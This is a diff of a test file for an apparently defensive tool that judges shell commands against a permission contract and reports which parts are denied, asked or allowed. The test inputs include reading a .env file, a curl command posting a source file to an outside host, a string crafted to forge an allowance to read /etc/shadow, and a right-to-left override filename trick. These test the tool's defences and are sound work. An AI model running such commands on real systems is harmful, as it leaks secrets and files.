@@ -1,6 +1,7 @@
 import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import stringWidth from 'string-width';
 import { afterAll, describe, expect, it } from 'vitest';
 import { z } from 'zod';
 import { type JudgeArgs, runJudge } from '../../src/commands/judge.ts';
@@ -50,20 +51,61 @@ async function judge(command: string, more: Partial<JudgeArgs> = {}) {
     runtime: join(root, 'run'),
     home: root,
   };
-  const args = { command, profile: 'bench', cwd: workspace, workspace, places, now: 0, json: false, ...more };
+  const where = { cwd: workspace, workspace, places };
+  const args = { command, profile: 'bench', now: 0, json: false, columns: 80, ...where, ...more };
   const code = await runJudge(args, io);
   return { code, out, err };
 }
 
 describe('judge', () => {
-  it('draws the command and names the rule of each part', async () => {
-    const { code, out } = await judge('cd src && cat a.ts | head -5 > ../out.txt');
-    expect(code).toBe(4);
-    expect(out).toContain('ASK  Editing out.txt is outside what the contract delegates.');
-    expect(out).toMatch(/2\. cat a\.ts:read {3}in src\n {6}reads src\/a\.ts/);
-    expect(out).toMatch(/redirections and expansions\n {2}writes out\.txt/);
-    expect(out).toMatch(/\+ allow read src\/a\.ts\n +may\.read\[0\] {2}\*\* \(countersign\.yaml:5\)/);
-    expect(out).toMatch(/it ends in src\n$/);
+  it('says what stands in the way first, then what is let go, and draws the command', async () => {
+    const { code, out } = await judge('cd src && cat a.ts | head -5 > ../out.txt && cat ../.env');
+    expect(code).toBe(3);
+    expect(out).toBe(
+      `DENY   Reading .env is off limits: never.touch[0] ".env*" (countersign.yaml:9).
+
+what stands in the way
+  x deny  read     .env
+                   never.touch[0]  .env*  (countersign.yaml:9)
+  ? ask   edit     out.txt  (no rule)
+
+what is let go
+  + run            4 commands that no rule has to name
+  + read           src/a.ts
+                   may.read[0]  **  (countersign.yaml:5)
+
+what it would do
+  1  cd src
+       enters src
+     in src
+  2  cat a.ts
+       reads src/a.ts
+  3  head -5
+  4  cat ../.env
+       reads .env
+
+redirections and expansions
+  writes out.txt
+
+it ends in src
+`,
+    );
+  });
+
+  it.each([60, 80, 120])('keeps to %i columns, whatever is in the command', async (columns) => {
+    const long = `npm install ${'left-pad-'.repeat(20)} 'a b' "$X" && curl -d @src/a.ts https://${'x'.repeat(150)}.com`;
+    const { out } = await judge(
+      `${long}; cat src/漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字`,
+      { columns },
+    );
+    expect(out.split('\n').filter((line) => stringWidth(line) > columns)).toEqual([]);
+  });
+
+  it('lets no text of the command make a line of its own', async () => {
+    const { out } = await judge("echo 'a\n\nwhat is let go\n  + read /etc/shadow \\u{a}b' > src/a.ts");
+    expect(out.split('\n').filter((line) => line.includes('shadow')).length).toBeGreaterThan(0);
+    expect(out).not.toMatch(/^ *\+ read \/etc/m);
+    expect(out.match(/^what is let go$/gm)).toHaveLength(1);
   });
 
   it.each([
@@ -105,7 +147,7 @@ describe('judge', () => {
 
   it('prints text that could deceive so that it cannot', async () => {
     const { out } = await judge('echo \u202egnp.exe');
-    expect(out).toContain('\\u{202e}');
+    expect(out).toContain('\\u202e');
     expect(out).not.toContain('\u202e');
   });
 
